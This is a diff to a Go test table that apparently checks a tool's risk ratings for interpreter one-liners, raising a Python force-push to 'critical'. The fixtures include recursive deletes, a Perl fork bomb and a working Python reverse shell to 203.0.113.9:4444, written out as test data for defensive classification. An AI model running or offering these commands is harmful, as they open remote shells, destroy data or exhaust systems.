@@ -58,7 +58,7 @@ func TestInterpreterLevels(t *testing.T) {
 		{`node -e "require('fs').rmSync('dist', {recursive: true, force: true})"`, "low"},
 		{`ruby -e 'require "fileutils"; FileUtils.rm_rf("tmp/cache")'`, "low"},
 		{`pwsh -NoProfile -c 'Remove-Item -Recurse -Force ./bin'`, "low"},
-		{`python3 -c "import subprocess; subprocess.check_call(['git', 'push', '--force', 'origin', 'main'])"`, "low"},
+		{`python3 -c "import subprocess; subprocess.check_call(['git', 'push', '--force', 'origin', 'main'])"`, "critical"}, // as the shell form
 		// What has no shell form, and what cannot be read.
 		{`perl -e 'fork while fork'`, "critical"},
 		{`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")'`, "critical"},
